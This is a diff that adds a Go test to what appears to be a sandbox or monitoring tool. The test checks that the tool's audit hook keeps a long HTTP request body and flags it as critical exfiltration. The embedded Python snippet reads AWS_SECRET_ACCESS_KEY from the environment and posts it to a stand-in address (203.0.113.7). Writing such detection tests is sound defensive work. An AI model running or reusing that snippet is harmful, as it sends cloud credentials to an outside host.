@@ -392,3 +392,32 @@ func TestCorpusHiddenSecrets(t *testing.T) {
 		}
 	}
 }
+
+// TestHookLongRequestBody: the hook keeps the start of a request body
+// whose encoded line passes its one-write bound, rather than dropping the
+// body whole (a stealer's JSON of files with long home paths lost its
+// data, and the run's exfiltration finding with it).
+func TestHookLongRequestBody(t *testing.T) {
+	b := moattest.RequireBackend(t, "native")
+	code := `import json, os, urllib.request
+body = json.dumps({"key": os.environ["AWS_SECRET_ACCESS_KEY"], "pad": "\\\\\n\"" * 400}).encode()
+try:
+    urllib.request.urlopen(urllib.request.Request("http://203.0.113.7/c", data=body), timeout=3)
+except Exception as e:
+    print(e)
+`
+	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}, Limits: moat.Limits{Timeout: 20 * time.Second}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var data string
+	for _, e := range res.Events {
+		if e.Source == moat.SourceAudit && e.Kind == "http" {
+			data = e.Data
+		}
+	}
+	if !strings.Contains(data, `{"key": "`) || !has(res.Findings, moat.CategoryExfiltration, moat.SeverityCritical) {
+		dump(t, res)
+		t.Errorf("the request's data %q, no critical exfiltration finding", data)
+	}
+}
